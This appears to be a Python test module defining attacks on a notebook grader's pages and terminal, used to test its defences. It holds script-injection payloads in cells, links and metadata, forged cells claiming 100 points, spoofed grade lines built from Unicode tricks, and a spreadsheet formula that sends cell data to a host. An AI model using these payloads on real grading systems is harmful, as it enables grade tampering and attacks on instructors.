"""Attacks on the instructor's pages and terminal: scripts, forged lines, characters that cover others."""

from collections.abc import Callable
from typing import Any

from tests.jail.attacks.attack import Attack

KIND = "what is shown"
SCRIPT = (
    "<script>window.owned = 1</script><img src=x onerror='owned()'><svg onload='owned()'></svg>"
    "<iframe src='javascript:owned()'></iframe><form action='/owned'><style>.owned {}</style>"
)
EVERYTHING = ("3.1", "3.2", "3.3", "3.4", "3.5", "3.6")


def _cells(name: str, says: str, *cells: dict[str, Any], costs: tuple[str, ...] = ()) -> Attack:
    """An attack that adds these cells before and after all other cells; its answers are honest."""

    def shape(notebook: dict[str, Any], places: Any) -> Any:
        own = [{"metadata": {}, **cell} for cell in cells]
        notebook["cells"] = [*own, *notebook["cells"], *own]
        return notebook

    return Attack(name, KIND, says, shape=shape, bare=False, costs=costs)


def _message(name: str, says: str, message: str) -> Attack:
    return Attack(name, KIND, says, f"raise ValueError({message})", bare=False)


def _output(kind: str, data: Any) -> dict[str, Any]:
    output = {"output_type": "display_data", "metadata": {}, "data": {kind: data}}
    return {"cell_type": "code", "source": "1", "outputs": [output], "execution_count": 1}


def _changed(
    name: str, says: str, change: Callable[[dict[str, Any]], None], costs: tuple[str, ...] = ()
) -> Attack:
    def shape(notebook: dict[str, Any], places: Any) -> Any:
        change(notebook)
        return notebook

    return Attack(name, KIND, says, shape=shape, bare=False, costs=costs)


def _metadata(notebook: dict[str, Any]) -> None:
    """Change metadata that other programs interpret, in the notebook and in its cells."""
    notebook["metadata"] = {
        "kernelspec": {"name": "bash", "display_name": SCRIPT, "language": "bash"},
        "language_info": {"name": SCRIPT, "pygments_lexer": "owned", "codemirror_mode": SCRIPT},
        "poolgrader": {"result": "0" * 32, "grader": SCRIPT},
        "title": SCRIPT,
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": SCRIPT}},
    }
    for cell in notebook["cells"]:
        cell["metadata"] |= {
            "raw_mimetype": "text/html",
            "tags": ["remove_cell", SCRIPT],
            "slideshow": SCRIPT,
        }


def _ids(notebook: dict[str, Any]) -> None:
    """Add cells that claim 100 points: text cells with the ids of check cells, and code cells with new ids."""
    checks = [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade")]
    for cell in checks:
        facts = cell["metadata"]["nbgrader"] | {"points": 100, "locked": False, "solution": True}
        notebook["cells"].append({"cell_type": "markdown", "metadata": {"nbgrader": facts}, "source": SCRIPT})
        bonus = facts | {"grade_id": f"bonus-{facts['grade_id']}"}
        notebook["cells"].append(_output("text/html", SCRIPT) | {"metadata": {"nbgrader": bonus}})


ATTACKS = (
    _cells(
        "script_text",
        "a script in a text cell, which formgrader's page would run: it may give marks by hand",
        {"cell_type": "markdown", "source": SCRIPT},
        {
            "cell_type": "markdown",
            "source": ["`a`<scr", "ipt>owned()</script>\n\n```\n</code></pre>", SCRIPT],
        },
    ),
    _cells("script_raw", "a script in a raw cell", {"cell_type": "raw", "source": SCRIPT}),
    _cells(
        "script_output",
        "a script in the output of a code cell, and in its name for its kind",
        _output("text/html", SCRIPT),
        _output("application/javascript", "owned()"),
        _output("image/svg+xml", SCRIPT),
    ),
    _cells(
        "script_link",
        "links, pictures and mathematics that run something",
        {
            "cell_type": "markdown",
            "source": "[a](javascript:owned()) ![b](javascript:owned()) [c]: javascript:owned()",
        },
        {
            "cell_type": "markdown",
            "source": "<javascript:owned()> $\\href{javascript:owned()}{x}$ $$\\style{owned}{x}$$",
        },
        {
            "cell_type": "markdown",
            "source": "[d](data:text/html,owned) [e](&#106;avascript:owned()) [f](java\tscript:owned())",
        },
    ),
    _cells(
        "script_picture",
        "pictures attached to a text cell: of another kind than they say, not there, or none",
        {
            "cell_type": "markdown",
            "source": "![a](attachment:a) ![b](attachment:b) ![c](attachment:c) ![d](attachment:absent)",
            "attachments": {
                "a": {"text/html": "PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+"},
                "b": {"image/png": "x' onerror='owned()"},
                "c": {},
            },
        },
    ),
    _changed("metadata", "metadata of notebook and cells that other programs act upon", _metadata),
    _changed("ids", "cells of another kind that bear our ids, with a hundred points each", _ids),
    _message(
        "lines",
        "an error that goes on with a line about a neighbour",
        "'x\\nneighbour: handed in nothing\\n neighbour   0  0  0' + chr(0x2028) + 'neighbour: 0' + "
        "chr(0x85) + 'neighbour: 0'",
    ),
    _message(
        "covering",
        "letters with hundreds of marks, which cover the lines around",
        "('a' + chr(0x335) * 90 + chr(0x20DD) * 9) * 3",
    ),
    _message(
        "unseen",
        "letters that nobody sees, and signs that turn a line round",
        "chr(0x202E) + 'a' + ''.join(map(chr, range(0xE0020, 0xE0060))) + chr(0x200B) * 99",
    ),
    _message(
        "formula",
        "an error that a spreadsheet takes for a formula",
        '\'=HYPERLINK("http://127.0.0.1/"&A1;"x")\'',
    ),
    _cells(
        "crowd",
        "nineteen hundred cells that fail, each with a reason",
        *[{"cell_type": "code", "source": "1/0"}] * 950,
    ),
    _cells(
        "long_cell",
        "a cell of two million letters on one line, which is no Python",
        {"cell_type": "code", "source": "x = '" + "a" * 2_000_000},
    ),
)
